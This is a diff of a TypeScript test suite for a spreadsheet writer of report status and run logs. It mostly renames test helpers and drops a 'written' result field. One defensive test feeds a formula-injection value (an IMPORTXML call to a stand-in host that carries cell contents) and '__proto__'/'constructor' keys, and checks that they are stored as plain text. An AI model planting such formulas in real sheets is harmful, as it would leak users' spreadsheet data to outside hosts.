@@ -2,14 +2,14 @@ import type { LogsOrder } from '../../../src/reports/logs/write-logs';
 import { FakeClock } from '../../fakes/clock';
 import { EmulatedSheets } from '../../fakes/sheets/emulated-sheets';
 import { SheetModel } from '../../fakes/sheets/sheet-model';
-import { booksOf, HOUR, loggedRun, NOW, statusRow } from './file';
+import { booksOf, HOUR, loggedRun, NOW, savedReport, withRows } from './file';
 
 const STATUS = 'Refresh status';
 const LOG = 'Run log';
 const LOG_ID = 14;
 
 const ORDER = {
-  status: [statusRow('r1'), statusRow('r2', { name: 'Retention' })],
+  status: [savedReport('r1'), savedReport('r2', { name: 'Retention' })],
   newRuns: [loggedRun(2), loggedRun(1, { report: 'Retention' })],
 } satisfies Partial<LogsOrder>;
 
@@ -18,7 +18,6 @@ function kept(order: Partial<LogsOrder> = ORDER) {
   const clock = new FakeClock(NOW);
   const write = booksOf(sheet, clock);
   expect(write(order)).toEqual({
-    written: true,
     logged: (order.newRuns ?? []).map(({ runId }) => runId),
     problems: [],
   });
@@ -41,11 +40,11 @@ describe('the books of a file', () => {
     expect(sheet.tab(STATUS).frozenRowCount).toBe(2);
   });
 
-  it('ten equal writings change nothing, the line included, however late it is', () => {
+  it('change no cell when they are written again, in the line above the table either, for an hour', () => {
     const { sheet, clock, write } = kept();
     const before = sheet.snapshot();
     for (let nth = 0; nth < 10; nth++) {
-      clock.pass(HOUR);
+      clock.pass(HOUR / 10);
       write(ORDER);
     }
     expect(sheet.batches).toHaveLength(2);
@@ -61,7 +60,7 @@ describe('the books of a file', () => {
 
   it('only what differs is written', () => {
     const { sheet, write } = kept();
-    write({ status: [statusRow('r1', { rows: 121 }), ORDER.status[1]!], newRuns: [] });
+    write({ status: [withRows('r1', 121), ORDER.status[1]!], newRuns: [] });
     expect(sheet.batches).toHaveLength(3);
     const numbers = JSON.stringify(sheet.batches[2]).match(/numberValue|stringValue/g);
     expect(numbers).toHaveLength(1);
@@ -71,7 +70,7 @@ describe('the books of a file', () => {
     const { sheet, write, column } = kept();
     sheet.tab(STATUS).title = 'How it stands';
     sheet.sheets.reverse();
-    write({ ...ORDER, status: [statusRow('r1', { name: 'Renamed' })] });
+    write({ ...ORDER, status: [savedReport('r1', { name: 'Renamed' })] });
     expect(column('How it stands', 0)).toEqual(['Renamed']);
     sheet.sheets = sheet.sheets.filter(({ title }) => title !== LOG);
     write({ ...ORDER, newRuns: [loggedRun(5)] });
@@ -96,7 +95,7 @@ describe('the books of a file', () => {
     sheet.insert(LOG, 'COLUMNS', 4);
     sheet.type(LOG, 3, 4, 'ticket 12');
     sheet.type(STATUS, 3, 15, 'ask Bo');
-    write({ status: [statusRow('r0'), ...ORDER.status], newRuns: [loggedRun(0)] });
+    write({ status: [savedReport('r0'), ...ORDER.status], newRuns: [loggedRun(0)] });
     const log = sheet.shown(LOG);
     expect([log[4]![3], log[4]![4], log[4]![17]]).toEqual(['Daily revenue', 'ticket 12', 'asked support']);
     const status = sheet.shown(STATUS);
@@ -107,11 +106,11 @@ describe('the books of a file', () => {
     const { sheet, write, rows } = kept();
     sheet.type(STATUS, 4, 0, 'Reports of Bo: see the other file');
     sheet.type(LOG, 4, 0, 'Until here checked by Bo');
-    write({ status: [statusRow('r3')], newRuns: [loggedRun(0)] });
+    write({ status: [savedReport('r3')], newRuns: [loggedRun(0)] });
     expect(rows(STATUS).map(([name]) => name)).toEqual(['Report r3', 'Reports of Bo: see the other file']);
     expect(rows(LOG)[3]).toEqual(['Until here checked by Bo']);
     const batches = sheet.batches.length;
-    write({ status: [statusRow('r3')], newRuns: [loggedRun(0)] });
+    write({ status: [savedReport('r3')], newRuns: [loggedRun(0)] });
     expect(sheet.batches).toHaveLength(batches);
   });
 
@@ -119,7 +118,7 @@ describe('the books of a file', () => {
     const { sheet, write, rows } = kept();
     sheet.type(STATUS, 4, 0, 'All');
     sheet.type(STATUS, 4, 11, '=SUM(L3:L4)');
-    write({ ...ORDER, status: [statusRow('r1', { rows: 121 }), ORDER.status[1]!] });
+    write({ ...ORDER, status: [withRows('r1', 121), ORDER.status[1]!] });
     expect(sheet.tab(STATUS).rows[4]![11]!.formula).toBe('=SUM(L3:L4)');
     expect(rows(STATUS)[2]![11]).toBe(241);
   });
@@ -130,7 +129,7 @@ describe('the books of a file', () => {
       const { rows } = sheet.tab(title);
       [rows[2], rows[3]] = [rows[3]!, rows[2]!];
     }
-    write({ status: [...ORDER.status, statusRow('r3')], newRuns: [loggedRun(0)] });
+    write({ status: [...ORDER.status, savedReport('r3')], newRuns: [loggedRun(0)] });
     expect(column(LOG, LOG_ID)).toEqual(['run2', 'run1', 'run0']);
     expect(column(STATUS, 14)).toEqual(['r2', 'r1', 'r3']);
   });
@@ -145,7 +144,7 @@ describe('the books of a file', () => {
   it('names are texts, whatever they look like', () => {
     const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
     const { sheet, column } = kept({
-      status: [statusRow('r1', { name }), statusRow('__proto__', { name: '+1' })],
+      status: [savedReport('r1', { name }), savedReport('__proto__', { name: '+1' })],
       newRuns: [loggedRun(1, { report: name, runId: 'constructor' })],
     });
     expect(column(STATUS, 0)).toEqual([name, '+1']);
@@ -158,8 +157,7 @@ describe('the books of a file', () => {
   it('one sheet that cannot be written is said, and the other one is written', () => {
     const { sheet, write, column } = kept();
     sheet.type(LOG, 1, 3, 'My report');
-    expect(write({ status: [statusRow('r9')], newRuns: [loggedRun(0)] })).toEqual({
-      written: true,
+    expect(write({ status: [savedReport('r9')], newRuns: [loggedRun(0)] })).toEqual({
       logged: [],
       problems: [
         expect.stringMatching(/^Sheet “Run log” could not be updated: the header “Report” is missing\./),
@@ -190,7 +188,6 @@ describe('the books of a file', () => {
     const sheet = new SheetModel();
     const order = { ...ORDER };
     expect(booksOf(sheet, new FakeClock(NOW), () => false)(order)).toEqual({
-      written: false,
       logged: [],
       problems: [],
     });
@@ -238,7 +235,7 @@ describe('the status sheet, when no code runs any more', () => {
   }
 
   it('says by itself for how many days nothing was checked', () => {
-    const { saysAfter } = opened([statusRow('r1'), statusRow('r2', { lastChecked: NOW - 30 * HOUR })]);
+    const { saysAfter } = opened([savedReport('r1'), savedReport('r2', { lastChecked: NOW - 30 * HOUR })]);
     const said = [0, 23, 25, 46, 71].map(saysAfter);
     const words = (days: number) =>
       `Days without a check: ${days}. The numbers may be old: open Ad Reports ▸ Open.`;
@@ -246,17 +243,17 @@ describe('the status sheet, when no code runs any more', () => {
   });
 
   it('says nothing where no report refreshes itself', () => {
-    expect(opened([statusRow('r1', { nextRun: null })]).saysAfter(900)).toBe('');
+    expect(opened([savedReport('r1', { nextRun: null })]).saysAfter(900)).toBe('');
     expect(opened([]).saysAfter(900)).toBe('');
   });
 
   it('sees rows that came in above the first, and stays as the user has left it', () => {
-    const { sheets, saysAfter } = opened([statusRow('r1')]);
+    const { sheets, saysAfter } = opened([savedReport('r1')]);
     const later = { lastChecked: NOW + 70 * HOUR };
-    booksOf(sheets)({ status: [statusRow('r0', later), statusRow('r1')] });
+    booksOf(sheets)({ status: [savedReport('r0', later), savedReport('r1')] });
     expect(saysAfter(71)).toBe('');
     sheets.type("'Refresh status'!D1", [['mine']]);
-    booksOf(sheets)({ status: [statusRow('r7', later)] });
+    booksOf(sheets)({ status: [savedReport('r7', later)] });
     expect(saysAfter(0)).toBe('mine');
   });
 });
